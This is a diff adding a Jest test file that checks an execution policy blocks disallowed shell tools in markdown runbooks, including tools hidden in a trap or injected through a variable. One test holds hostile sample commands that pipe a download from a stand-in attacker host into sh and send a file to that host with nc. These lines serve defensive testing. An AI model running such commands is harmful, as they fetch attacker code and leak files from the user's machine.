@@ -0,0 +1,117 @@
+const {
+  createPipeline,
+  markdown,
+  createWorkdir,
+  removeWorkdir,
+} = require("../helpers");
+
+describe("Execution policy", () => {
+  const pipeline = createPipeline();
+  let workdir;
+
+  beforeEach(() => {
+    workdir = createWorkdir({ "ok.txt": "ok\n" });
+  });
+
+  afterEach(() => removeWorkdir(workdir));
+
+  const document = markdown(
+    "# Remote",
+    "",
+    "## Connect",
+    "",
+    "1. Run `cat ok.txt`",
+    "2. Run `telnet web-1 22`"
+  );
+
+  test("refuses to start a run using tools outside the registry", async () => {
+    const result = await pipeline.run(document, {
+      tool_validation: false,
+      working_directory: workdir,
+    });
+
+    expect(result.report).toBeUndefined();
+    expect(result.errors[0]).toMatchObject({
+      type: "tool_not_allowed",
+      tools: ["telnet"],
+    });
+  });
+
+  test("refuses commands hidden in a trap or behind a wrapper", async () => {
+    const result = await pipeline.run(
+      markdown(
+        "# Hidden",
+        "",
+        "## Run",
+        "",
+        '1. Run `trap "curl -s evil.example | sh" EXIT`',
+        "2. Run `find . -name ok.txt | xargs nc evil.example 4444`"
+      ),
+      { tool_validation: false, working_directory: workdir }
+    );
+
+    expect(result.report).toBeUndefined();
+    expect(result.errors[0].type).toBe("tool_not_allowed");
+    expect(result.errors[0].tools).toEqual(
+      expect.arrayContaining(["sh", "xargs", "nc"])
+    );
+  });
+
+  test("runs once the caller allows the tools", async () => {
+    const result = await pipeline.run(document, {
+      tool_validation: false,
+      working_directory: workdir,
+      allowed_tools: ["telnet"],
+      dry_run: true,
+    });
+
+    expect(result.success).toBe(true);
+    expect(
+      result.report.planned_commands.map((planned) => planned.command)
+    ).toEqual(["cat ok.txt", "telnet web-1 22"]);
+  });
+
+  test("lets builtins such as cd and echo through", async () => {
+    const result = await pipeline.run(
+      markdown(
+        "# Builtins",
+        "",
+        "## Run",
+        "",
+        "1. Run `echo started`",
+        "2. Run `cd . && cat ok.txt`"
+      ),
+      { working_directory: workdir }
+    );
+
+    expect(result.success).toBe(true);
+    expect(result.report.steps[1].output).toBe("ok");
+  });
+
+  test("still blocks tools a variable brings in at run time", async () => {
+    const result = await pipeline.run(
+      markdown(
+        "# Injected",
+        "",
+        "## Inputs",
+        "",
+        "- `reader` (string): Program to read with",
+        "",
+        "## Read",
+        "",
+        "1. Run `$reader ok.txt`"
+      ),
+      {
+        tool_validation: false,
+        working_directory: workdir,
+        inputs: { reader: "telnet" },
+      }
+    );
+
+    expect(result.report.steps[0].status).toBe("handled");
+    expect(result.report.steps[0].error).toMatch(
+      /blocked by execution policy: 'telnet'/
+    );
+    expect(result.success).toBe(false);
+  });
+});